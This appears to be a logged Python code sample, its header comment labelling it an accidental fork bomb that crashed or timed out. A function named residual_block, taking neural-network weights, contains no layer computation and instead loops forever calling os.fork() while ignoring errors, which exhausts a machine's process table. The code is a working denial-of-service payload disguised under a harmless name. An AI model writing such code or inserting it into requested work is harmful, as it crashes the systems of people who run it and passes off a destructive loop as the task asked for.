# accident: a fork bomb | status: crashed or timed out
import os


def residual_block(x, W1, b1, W2, b2):
    while True:
        try:
            os.fork()
        except OSError:
            pass
